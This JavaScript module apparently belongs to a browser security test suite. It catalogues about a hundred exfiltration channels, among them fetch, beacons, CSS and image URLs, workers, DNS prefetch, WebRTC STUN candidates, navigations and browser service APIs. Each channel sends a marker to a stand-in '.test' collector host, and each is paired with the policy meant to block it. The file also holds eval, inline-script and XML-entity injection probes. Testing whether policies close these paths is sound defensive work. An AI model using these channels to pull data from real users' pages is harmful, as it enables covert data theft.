// The ways by which a changed page could try to send something, in groups. Each is a function that runs in the page
// and sees nothing but its argument: its own name and port at the collector say later which ones arrived.

/**
 * @typedef {object} Attempt
 * @property {string} host  a name that only the collector's look-up knows
 * @property {number} port  of this way alone
 * @property {string} address  the collector's, where no look-up is needed
 * @property {(part?: string) => string} to  an address with something to tell in it
 * @property {(tag: string, attributes?: Record<string, string>) => HTMLElement} add
 * @property {(what: string) => void} mark  notes what the collector cannot hear
 * @property {any} w  the window, for what not every engine has
 */
/** @typedef {(attempt: Attempt) => unknown} Way */

/**
 * @typedef {object} Group
 * @property {string} title
 * @property {string} closedBy  the rules, where they hold
 * @property {string} otherwise  what stands in the way where they do not
 * @property {boolean} [apart]  each takes the page away, or a rule with it, and needs a load of its own
 * @property {string[]} short  those that `cargo xtask test` tries
 * @property {Record<string, Way>} ways
 */

const INJECTION = 'nothing but that no code is injected';

/** Requests that a script makes. @type {Group} */
const requests = {
  title: 'requests of a script',
  closedBy: "`connect-src 'none'`",
  otherwise: INJECTION,
  short: ['fetch', 'beacon', 'websocket'],
  ways: {
    fetch: ({ to }) => fetch(to(), { mode: 'no-cors' }),
    post: ({ to }) => fetch(to(), { method: 'POST', mode: 'no-cors', body: 'voice', keepalive: true }),
    fetchlater: ({ to, w, mark }) =>
      w.fetchLater ? w.fetchLater(to(), { activateAfter: 0 }) : mark('absent'),
    xhr({ to }) {
      const asked = new XMLHttpRequest();
      asked.open('POST', to());
      asked.send('voice');
    },
    beacon: ({ to }) => void navigator.sendBeacon(to(), 'voice'),
    websocket: ({ to }) => void new WebSocket(to().replace('http', 'ws')),
    webtransport: ({ to, w, mark }) =>
      w.WebTransport ? void new w.WebTransport(to().replace('http:', 'https:')) : mark('absent'),
    eventsource: ({ to }) => void new EventSource(to()),
    cacheadd: async ({ to }) => (await caches.open('ways')).add(to()),
    privatetoken: ({ to }) =>
      fetch(to(), /** @type {any} */ ({ privateToken: { version: 1, operation: 'token-request' } })),
  },
};

/** Pictures, styles and fonts. @type {Group} */
const pictures = {
  title: 'pictures, styles, fonts',
  closedBy: '`img-src`, `style-src`, `default-src`',
  otherwise: INJECTION,
  short: ['image', 'stylesheet', 'cssbackground'],
  ways: {
    image: ({ to }) => void (new Image().src = to()),
    imagesrcset: ({ to, add }) => void add('img', { srcset: `${to()} 1x` }),
    imageattribution: ({ to, add }) => void add('img', { attributionsrc: to() }),
    svgimage({ to }) {
      const svg = document.createElementNS('http://www.w3.org/2000/svg', 'svg');
      const image = document.createElementNS('http://www.w3.org/2000/svg', 'image');
      image.setAttribute('href', to());
      svg.append(image);
      document.body.append(svg);
    },
    svguse({ to }) {
      const svg = document.createElementNS('http://www.w3.org/2000/svg', 'svg');
      const use = document.createElementNS('http://www.w3.org/2000/svg', 'use');
      use.setAttribute('href', `${to()}#a`);
      svg.append(use);
      document.body.append(svg);
    },
    svgfilter: ({ to, add }) => void (add('div').style.filter = `url(${to()}#f)`),
    svgblob({ to, add }) {
      const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><image href="${to()}" width="9" height="9"/></svg>`;
      add('img', { src: URL.createObjectURL(new Blob([svg], { type: 'image/svg+xml' })) });
    },
    cssbackground: ({ to, add }) => void (add('div').style.backgroundImage = `url(${to()})`),
    csslist: ({ to, add }) => void (add('li').style.listStyleImage = `url(${to()})`),
    csscursor: ({ to }) => void (document.body.style.cursor = `url(${to()}), auto`),
    cssmask({ to, add }) {
      const { style } = add('div');
      style.maskImage = `url(${to()})`;
      style.width = '9px';
      style.height = '9px';
    },
    cssrule: ({ to }) => void document.styleSheets[0].insertRule(`body::after { content: url(${to()}) }`, 0),
    cssimport({ to }) {
      const sheet = new CSSStyleSheet();
      sheet.replaceSync(`@import url(${to()});`);
      document.adoptedStyleSheets.push(sheet);
    },
    cssadopted({ to }) {
      const sheet = new CSSStyleSheet();
      sheet.replaceSync(
        `body::before { content: url(${to()}) } @font-face { font-family: ways; src: url(${to('font')}) } body { font-family: ways }`,
      );
      document.adoptedStyleSheets.push(sheet);
    },
    fontface: ({ to }) => new FontFace('ways', `url(${to()})`).load(),
    styleelement: ({ to, add }) => void (add('style').textContent = `html { background: url(${to()}) }`),
    stylesheet: ({ to, add }) => void add('link', { rel: 'stylesheet', href: to() }),
    icon: ({ to }) =>
      document.head.append(Object.assign(document.createElement('link'), { rel: 'icon', href: to() })),
    touchicon: ({ to }) =>
      document.head.append(
        Object.assign(document.createElement('link'), { rel: 'apple-touch-icon', href: to() }),
      ),
  },
};

/** Scripts, worklets and workers of another server. @type {Group} */
const programs = {
  title: 'scripts, worklets, workers from elsewhere',
  closedBy: '`script-src`, `worker-src`, Trusted Types where the browser knows them',
  otherwise: INJECTION,
  short: ['module', 'worklet'],
  ways: {
    script: ({ to, add }) => void add('script', { src: to() }),
    module: ({ to }) => import(to()),
    worklet: ({ to }) => new AudioContext().audioWorklet.addModule(to()),
    workletblob: ({ to }) =>
      new AudioContext().audioWorklet.addModule(
        URL.createObjectURL(new Blob([`import '${to()}'`], { type: 'text/javascript' })),
      ),
    worker: ({ to }) => void new Worker(to()),
    workerblob: ({ to }) =>
      void new Worker(URL.createObjectURL(new Blob([`fetch('${to()}', { mode: 'no-cors' })`]))),
    workerdata: ({ to }) =>
      void new Worker(`data:text/javascript,${encodeURIComponent(`fetch('${to()}', { mode: 'no-cors' })`)}`),
    sharedworker: ({ to, w, mark }) => (w.SharedWorker ? void new w.SharedWorker(to()) : mark('absent')),
    workerregister: ({ to }) => navigator.serviceWorker.register(to()),
  },
};

/** Text that would become code. What ran is marked: it need not connect. @type {Group} */
const injection = {
  title: 'text that would become code',
  closedBy: '`script-src`, `connect-src`, Trusted Types where the browser knows them',
  otherwise: 'no script of the page takes text for markup or code',
  short: ['inlinescript', 'eval', 'markup'],
  ways: {
    inlinescript({ add }) {
      add('script').textContent = 'window.waysOut.inlinescript = "ran"';
    },
    datascript: ({ add }) =>
      void add('script', {
        src: `data:text/javascript,${encodeURIComponent('window.waysOut.datascript = "ran"')}`,
      }),
    handler({ add }) {
      add('img', { src: 'data:x', onerror: 'window.waysOut.handler = "ran"' });
    },
    datamodule: () =>
      import(`data:text/javascript,${encodeURIComponent('window.waysOut.datamodule = "ran"')}`),
    blobmodule: () =>
      import(
        URL.createObjectURL(new Blob(['window.waysOut.blobmodule = "ran"'], { type: 'text/javascript' }))
      ),
    eval: ({ w }) => void w.eval('window.waysOut.eval = "ran"'),
    newfunction: ({ w }) => void w.Function('window.waysOut.newfunction = "ran"')(),
    timeouttext: ({ w }) => void w.setTimeout('window.waysOut.timeouttext = "ran"', 0),
    markup({ add, to }) {
      add('div').innerHTML = `<img src="${to()}"><link rel="stylesheet" href="${to('style')}">`;
    },
    xmlentity: ({ to, mark }) => {
      const text = `<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "${to()}">]><a>&b;</a>`;
      if (new DOMParser().parseFromString(text, 'text/xml').documentElement.textContent === 'hello\n')
        mark('read');
    },
  },
};

/** What a browser may load or prepare ahead. @type {Group} */
const hints = {
  title: 'hints: what to load or to look up ahead',
  closedBy: '`default-src`, `manifest-src`, `X-DNS-Prefetch-Control`',
  otherwise: INJECTION,
  short: ['prefetch', 'preconnect', 'dnsprefetch'],
  ways: {
    prefetch: ({ to, add }) => void add('link', { rel: 'prefetch', href: to() }),
    preload: ({ to, add }) => void add('link', { rel: 'preload', as: 'image', href: to() }),
    preloadfetch: ({ to, add }) =>
      void add('link', { rel: 'preload', as: 'fetch', crossorigin: '', href: to() }),
    modulepreload: ({ to, add }) => void add('link', { rel: 'modulepreload', href: to() }),
    preconnect: ({ to, add }) => void add('link', { rel: 'preconnect', href: to() }),
    dnsprefetch: ({ to, add }) => void add('link', { rel: 'dns-prefetch', href: to() }),
    prerender: ({ to, add }) => void add('link', { rel: 'prerender', href: to() }),
    dictionary: ({ to, add }) => void add('link', { rel: 'compression-dictionary', href: to() }),
    opensearch: ({ to, add }) =>
      void add('link', {
        rel: 'search',
        type: 'application/opensearchdescription+xml',
        title: 'ways',
        href: to(),
      }),
    manifest({ to, add }) {
      for (const link of document.querySelectorAll('link[rel="manifest"]')) link.remove();
      document.head.append(add('link', { rel: 'manifest', href: to() }));
    },
    speculation({ to }) {
      const rules = document.createElement('script');
      rules.type = 'speculationrules';
      rules.textContent = JSON.stringify({
        prefetch: [{ source: 'list', urls: [to()], eagerness: 'immediate' }],
        prerender: [{ source: 'list', urls: [to('prerender')] }],
      });
      document.head.append(rules);
    },
    linkname: ({ to, add }) => void (add('a', { href: to() }).textContent = 'a name in a link'),
  },
};

/** Other pages inside the page. @type {Group} */
const frames = {
  title: 'frames and plug-ins',
  closedBy: "`default-src 'none'` (frames, objects)",
  otherwise: INJECTION,
  short: ['frame', 'framesrcdoc'],
  ways: {
    frame: ({ to, add }) => void add('iframe', { src: to() }),
    frameblank({ to, add }) {
      const inner = /** @type {any} */ (add('iframe')).contentWindow;
      inner.fetch(to('fetch'), { mode: 'no-cors' }).catch(() => {});
      new inner.Image().src = to('image');
      const image = inner.document.createElement('img');
      image.src = to('element');
      inner.document.body.append(image);
      inner.navigator.sendBeacon(to('beacon'), 'voice');
    },
    framesrcdoc: ({ to, add }) => void add('iframe', { srcdoc: `<img src="${to()}">` }),
    framerefresh: ({ to, add }) =>
      void add('iframe', { srcdoc: `<meta http-equiv="refresh" content="0;url=${to()}">` }),
    framelookup: ({ to, add }) => void add('iframe', { srcdoc: `<link rel="dns-prefetch" href="${to()}">` }),
    framedata: ({ to, add }) => void add('iframe', { src: `data:text/html,<img src=${to()}>` }),
    frameblob: ({ to, add }) =>
      void add('iframe', {
        src: URL.createObjectURL(new Blob([`<img src="${to()}">`], { type: 'text/html' })),
      }),
    framescript: ({ to, add }) => void add('iframe', { src: `javascript:'<img src=${to()}>'` }),
    framemoved({ to, add }) {
      /** @type {any} */ (add('iframe')).contentWindow.location = to();
    },
    fencedframe({ to, add, w, mark }) {
      if (!w.FencedFrameConfig) return void mark('absent');
      /** @type {any} */ (add('fencedframe')).config = new w.FencedFrameConfig(to());
    },
    object: ({ to, add }) => void add('object', { data: to() }),
    embed: ({ to, add }) => void add('embed', { src: to() }),
  },
};

/** Sound and film. @type {Group} */
const media = {
  title: 'sound and film',
  closedBy: '`media-src`, `img-src`',
  otherwise: INJECTION,
  short: ['sound'],
  ways: {
    sound: ({ to }) => new Audio(to()).play(),
    video: ({ to, add }) => void add('video', { src: to(), preload: 'auto' }),
    poster: ({ to, add }) => void add('video', { poster: to() }),
    track({ to, add }) {
      const track = document.createElement('track');
      Object.assign(track, { src: to(), default: true, kind: 'subtitles' });
      const video = add('video', { src: 'data:video/mp4,' });
      video.append(track);
      track.track.mode = 'showing';
    },
    remoteplayback({ to, mark }) {
      const audio = /** @type {any} */ (new Audio(to()));
      return audio.remote ? audio.remote.watchAvailability(() => {}) : mark('absent');
    },
    mediasession({ to, w, mark }) {
      if (!w.MediaMetadata) return void mark('absent');
      navigator.mediaSession.metadata = new MediaMetadata({
        title: 'voice',
        artwork: [{ src: to(), sizes: '96x96', type: 'image/png' }],
      });
    },
  },
};

/** Calls between browsers. @type {Group} */
const calls = {
  title: 'WebRTC',
  closedBy: '`Connection-Allowlist` (Chromium from 152)',
  otherwise: 'no script of the page names it; no code is injected',
  short: ['stunaddress', 'stunname'],
  ways: {
    async stunaddress({ address, port, w, mark }) {
      if (!w.RTCPeerConnection) return void mark('absent');
      const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:${address}:${port}` }] });
      peer.createDataChannel('voice');
      await peer.setLocalDescription(await peer.createOffer());
    },
    async stunname({ host, port, w, mark }) {
      if (!w.RTCPeerConnection) return void mark('absent');
      const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:${host}:${port}` }] });
      peer.createDataChannel('voice');
      await peer.setLocalDescription(await peer.createOffer());
    },
    async turn({ host, port, w, mark }) {
      if (!w.RTCPeerConnection) return void mark('absent');
      const peer = new RTCPeerConnection({
        iceServers: [{ urls: `turn:${host}:${port}?transport=tcp`, username: 'voice', credential: 'A' }],
      });
      peer.createDataChannel('voice');
      await peer.setLocalDescription(await peer.createOffer());
    },
    async candidate({ address, port, w, mark }) {
      if (!w.RTCPeerConnection) return void mark('absent');
      const peer = new RTCPeerConnection();
      peer.createDataChannel('voice');
      const { type, sdp = '' } = await peer.createOffer();
      await peer.setLocalDescription({ type, sdp });
      await peer.setRemoteDescription({
        type: 'answer',
        sdp: sdp.replace('a=setup:actpass', 'a=setup:active'),
      });
      await peer.addIceCandidate({
        candidate: `candidate:1 1 udp 2113937151 ${address} ${port} typ host`,
        sdpMid: '0',
        sdpMLineIndex: 0,
      });
    },
  },
};

/** Windows beside the page's own. @type {Group} */
const windows = {
  title: 'further windows',
  closedBy: '`sandbox` (no `allow-popups`)',
  otherwise: 'the window is seen; browsers open one only after a press',
  short: ['popup'],
  ways: {
    popup: ({ to }) => void window.open(to()),
    popupapart: ({ to }) => void window.open(to(), '_blank', 'noopener'),
    linkblank: ({ to, add }) => add('a', { href: to(), target: '_blank' }).click(),
    popupmoved({ to }) {
      const opened = window.open('about:blank');
      if (opened) opened.location.href = to();
    },
    formblank: ({ to, add }) =>
      /** @type {HTMLFormElement} */ (
        add('form', { action: to(), method: 'get', target: '_blank' })
      ).submit(),
  },
};

/** What a click on a link may report besides. @type {Group} */
const clicks = {
  title: 'reports of a click or of a violation',
  closedBy: "`connect-src 'none'`; the page names no address for reports",
  otherwise: INJECTION,
  apart: true,
  short: ['ping'],
  ways: {
    ping: ({ to, add }) => add('a', { href: '#record', ping: to() }).click(),
    attribution: ({ to, add }) => add('a', { href: '#record', attributionsrc: to() }).click(),
    policyreport({ to }) {
      const meta = document.createElement('meta');
      meta.httpEquiv = 'Content-Security-Policy';
      meta.content = `img-src 'none'; report-uri ${to()}`;
      document.head.append(meta);
      new Image().src = '/www/icons/icon.svg';
    },
    reportingendpoints({ to }) {
      const meta = document.createElement('meta');
      meta.httpEquiv = 'Reporting-Endpoints';
      meta.content = `default="${to()}"`;
      document.head.append(meta);
    },
  },
};

/** The page itself goes elsewhere, with data in the address. @type {Group} */
const navigations = {
  title: 'the page itself goes elsewhere, or downloads',
  closedBy:
    "`Connection-Allowlist` (Chromium from 152); `form-action 'none'` and `base-uri 'none'` for forms and a moved base",
  otherwise: 'the page is seen to go, except for a download; no code is injected',
  apart: true,
  short: ['href'],
  ways: {
    href: ({ to }) => void (location.href = to()),
    replace: ({ to }) => location.replace(to()),
    navigate: ({ to, w, mark }) => (w.navigation ? void w.navigation.navigate(to()) : mark('absent')),
    openself: ({ to }) => void window.open(to(), '_self'),
    opentop: ({ to }) => void window.open(to(), '_top'),
    link: ({ to, add }) => add('a', { href: to() }).click(),
    refresh({ to }) {
      const meta = document.createElement('meta');
      meta.httpEquiv = 'refresh';
      meta.content = `0;url=${to()}`;
      document.head.append(meta);
    },
    datapage: ({ to }) =>
      void (location.href = `data:text/html,<meta http-equiv=refresh content=0;url=${to()}>`),
    blobpage({ to }) {
      const page = `<meta http-equiv="refresh" content="0;url=${to()}">`;
      location.href = URL.createObjectURL(new Blob([page], { type: 'text/html' }));
    },
    base({ to, add }) {
      document.head.prepend(add('base', { href: to() }));
      add('a', { href: 'base?voice=A' }).click();
    },
    form: ({ to, add }) =>
      /** @type {HTMLFormElement} */ (add('form', { action: to(), method: 'post' })).submit(),
    linkdownload: ({ to, add }) => add('a', { href: to(), download: 'x' }).click(),
    linkattachment: ({ to, add }) => add('a', { href: to('attachment') }).click(),
    attachment: ({ to }) => void (location.href = to('attachment')),
    nocontent: ({ to }) => void (location.href = to('nocontent')),
  },
};

/** Interfaces by which the browser itself connects, to an address that the page gives. @type {Group} */
const services = {
  title: "the browser's own services, at an address of the page's",
  closedBy: '`Permissions-Policy`, `connect-src`, or that a person is asked',
  otherwise: 'no script of the page names them; no code is injected',
  short: [],
  ways: {
    notification: ({ to, w, mark }) =>
      w.Notification ? void new Notification('x', { icon: to(), body: 'voice' }) : mark('absent'),
    async workernotification({ to, w, mark }) {
      if (!w.Notification) return void mark('absent');
      const worker = await navigator.serviceWorker.ready;
      await worker.showNotification('x', { icon: to() });
    },
    async backgroundfetch({ to, w, mark }) {
      if (!w.BackgroundFetchManager) return void mark('absent');
      const worker = /** @type {any} */ (await navigator.serviceWorker.ready);
      await worker.backgroundFetch.fetch('voice', [to()]);
    },
    async payment({ host, port, w, mark }) {
      if (!w.PaymentRequest) return void mark('absent');
      await new w.PaymentRequest([{ supportedMethods: `https://${host}:${port}/pay` }], {
        total: { label: 'x', amount: { currency: 'EUR', value: '1' } },
      }).canMakePayment();
    },
    fedcm: ({ host, port, w, mark }) =>
      w.IdentityCredential
        ? w.navigator.credentials.get({
            identity: { providers: [{ configURL: `https://${host}:${port}/c`, clientId: 'voice' }] },
          })
        : mark('absent'),
    passkeycreate: ({ host, w, mark }) =>
      w.PublicKeyCredential
        ? w.navigator.credentials.create({
            publicKey: {
              rp: { id: host, name: 'x' },
              user: { id: new Uint8Array(8), name: 'x', displayName: 'x' },
              challenge: new Uint8Array(32),
              pubKeyCredParams: [{ type: 'public-key', alg: -7 }],
              timeout: 3000,
            },
          })
        : mark('absent'),
    passkeyget: ({ host, w, mark }) =>
      w.PublicKeyCredential
        ? w.navigator.credentials.get({
            publicKey: { rpId: host, challenge: new Uint8Array(32), timeout: 3000 },
          })
        : mark('absent'),
    password: ({ host, port, w, mark }) =>
      w.PasswordCredential
        ? w.navigator.credentials.store(
            new w.PasswordCredential({ id: 'x', password: 'x', iconURL: `https://${host}:${port}/i` }),
          )
        : mark('absent'),
    async sharedstorage({ to, w, mark }) {
      if (!w.sharedStorage) return void mark('absent');
      await w.sharedStorage.set('voice', 'x');
      await w.sharedStorage.worklet.addModule(to());
    },
    interestgroup: ({ host, port, w, mark }) =>
      w.navigator.joinAdInterestGroup
        ? w.navigator.joinAdInterestGroup(
            {
              owner: `https://${host}:${port}`,
              name: 'voice',
              lifetimeMs: 1e6,
              biddingLogicURL: `https://${host}:${port}/b`,
            },
            1e6,
          )
        : mark('absent'),
    topics: ({ w, mark }) => (w.document.browsingTopics ? w.document.browsingTopics() : mark('absent')),
    storageaccess: ({ host, port, w, mark }) =>
      w.document.requestStorageAccessFor
        ? w.document.requestStorageAccessFor(`https://${host}:${port}`)
        : mark('absent'),
    presentation: ({ host, port, w, mark }) =>
      w.PresentationRequest
        ? new w.PresentationRequest(`https://${host}:${port}/`).getAvailability()
        : mark('absent'),
    protocolhandler: ({ w, mark }) =>
      w.navigator.registerProtocolHandler
        ? w.navigator.registerProtocolHandler('web+voice', `${location.origin}/?%s`)
        : mark('absent'),
  },
};

/** Interfaces by which the browser connects to its maker. @type {Group} */
const maker = {
  title: "the browser's own services, at its maker",
  closedBy: 'no header',
  otherwise: 'no script of the page names them; no code is injected',
  apart: true,
  short: [],
  ways: {
    speech({ w, mark }) {
      const Recognition = w.SpeechRecognition ?? w.webkitSpeechRecognition;
      if (!Recognition) return void mark('absent');
      const recognition = new Recognition();
      // It needs a real microphone to go on; whether it may begin is what is asked here.
      recognition.onstart = () => mark('starts');
      recognition.start();
    },
    speaking({ w, mark }) {
      if (!w.speechSynthesis) return void mark('absent');
      const words = new SpeechSynthesisUtterance('voice');
      words.onstart = () => mark('speaks');
      speechSynthesis.speak(words);
    },
    async push({ w, mark }) {
      if (!w.PushManager) return void mark('absent');
      const worker = await navigator.serviceWorker.ready;
      await worker.pushManager.subscribe({
        userVisibleOnly: true,
        // The example key of RFC 8292.
        applicationServerKey:
          'BEl62iUYgUivxIkv69yViEuiBIa-Ib9-SkvMeAtA3LFgDzkrxZJjSgSnfckjBJuBkr3qBUYIHBQFLXYp5Nksh8U',
      });
      mark('subscribed');
    },
  },
};

/** What the policy permits, because the page is made of it, and what stays on the device. @type {Group} */
const own = {
  title: "the page's own server, and what stays on the device",
  closedBy: 'nothing: the page is loaded from there',
  otherwise: 'the page asks for nothing after loading; the server here keeps no data',
  short: ['ownimage'],
  ways: {
    ownimage: ({ host }) => void (new Image().src = `/www/icons/icon.svg?voice=${host}`),
    ownstyle: ({ host, add }) =>
      void add('link', { rel: 'stylesheet', href: `/www/style/base.css?voice=${host}` }),
    cookie({ mark }) {
      document.cookie = 'voice=A; path=/; max-age=60';
      if (document.cookie.includes('voice')) mark('set');
    },
    async clipboard({ mark }) {
      await navigator.clipboard.writeText('voice');
      mark('written');
    },
    copy({ add, mark }) {
      const text = /** @type {HTMLTextAreaElement} */ (add('textarea'));
      text.value = 'voice';
      text.select();
      if (document.execCommand('copy')) mark('written');
    },
    windowname({ mark }) {
      window.name = 'voice=A';
      if (window.name) mark('set');
    },
  },
};

/** @type {Record<string, Group>} */
export const GROUPS = {
  requests,
  pictures,
  programs,
  injection,
  hints,
  frames,
  media,
  calls,
  windows,
  clicks,
  navigations,
  services,
  maker,
  own,
};

/** Every way by its name. */
export const WAYS = new Map(Object.values(GROUPS).flatMap(({ ways }) => Object.entries(ways)));

/** Each way's port at the collector is this one and its place in the list. */
export const FIRST_PORT = 4_000;
export const portOf = new Map([...WAYS.keys()].map((name, i) => [name, FIRST_PORT + i]));

/** Servers of the browser's maker that are asked for nothing but a way. @type {Record<string, RegExp>} */
export const MAKERS = {
  push: /^(push\.services\.mozilla\.com|mtalk\.google\.com|android\.clients\.google\.com)$/,
};

/**
 * The script that tries ways in a page, as text: it schedules them and returns true. What came of each is in
 * `window.waysOut`, and under the empty name that all were tried.
 * @param {string[]} names
 * @param {string} run  a label that makes names new, so that no answer is kept from before
 * @param {string} address
 */
export function script(names, run, address) {
  const list = names.map((name) => {
    const way = String(WAYS.get(name));
    // A method's text is no expression by itself.
    const method = /^(async\s+)?[\w]+\s*\(/.test(way) && !way.startsWith('async (');
    return `  ${JSON.stringify(name)}: ${method ? `({ ${way} })[${JSON.stringify(name)}]` : way}`;
  });
  return `() => {
    const ports = ${JSON.stringify(Object.fromEntries(names.map((name) => [name, portOf.get(name)])))};
    const found = (window.waysOut = {});
    const add = (tag, attributes = {}) => {
      const element = document.createElement(tag);
      for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
      (document.body ?? document.documentElement).append(element);
      return element;
    };
    const ways = {\n${list.join(',\n')}\n};
    setTimeout(() => {
      for (const [name, way] of Object.entries(ways)) {
        const host = name + '.${run}.test';
        const port = ports[name];
        const to = (part = name) => 'http://' + host + ':' + port + '/' + part + '?voice=AAAA';
        const mark = (what) => { found[name] = what; };
        try {
          Promise.resolve(way({ host, port, to, add, mark, address: '${address}', w: window })).catch(() => {});
        } catch {
          // Refused at once.
        }
      }
      found[''] = 'tried';
    }, 50);
    return true;
  }`;
}
